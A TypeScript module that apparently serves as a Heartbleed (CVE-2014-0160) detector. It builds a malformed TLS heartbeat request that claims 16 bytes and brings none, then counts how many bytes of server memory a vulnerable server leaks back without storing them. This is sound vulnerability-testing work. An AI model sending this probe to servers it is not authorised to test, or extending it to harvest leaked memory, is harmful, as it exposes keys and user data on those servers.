/** Type of the extension (RFC 6520, 2), and of the records (6). */
export const heartbeatExtension = 15;
const heartbeatRecord = 24;

const requestType = 1;
const responseType = 2;
/** Type and length of a message, and its padding at least (RFC 6520, 4). */
const headBytes = 3;
const paddingBytes = 16;

/** Bytes that a request asks back without having brought any. */
export const requestedBytes = 16;

/**
 * A heartbeat request that says it brings 16 bytes and brings none. It has to be passed over in silence (RFC 6520, 4);
 * a server that answers it answers with 16 bytes of its memory (CVE-2014-0160).
 * @param version of the handshake, `0x0301` to `0x0303`
 */
export function emptyHeartbeat(version: number): Buffer {
  const message = Buffer.from([requestType, 0, requestedBytes]);
  return Buffer.concat([
    Buffer.from([heartbeatRecord, version >> 8, version & 0xff, 0, message.length]),
    message,
  ]);
}

/**
 * How many bytes an answer to `emptyHeartbeat` gave away; the bytes themselves are not kept. @param records what came
 * behind the request; `more` while the next record is not whole
 */
export function leakedBytes(records: Buffer): number | 'more' {
  let rest = records;
  while (rest.length >= 5) {
    const length = rest.readUInt16BE(3);
    if (rest.length < 5 + length) return 'more';
    const content = rest.subarray(5, 5 + length);
    if (rest[0] === heartbeatRecord) return leakIn(content);
    rest = rest.subarray(5 + length);
  }
  return 'more';
}

function leakIn(message: Buffer): number {
  if (message.length < headBytes || message[0] !== responseType) return 0;
  const carried = Math.max(0, message.length - headBytes - paddingBytes);
  return Math.min(message.readUInt16BE(1), carried);
}
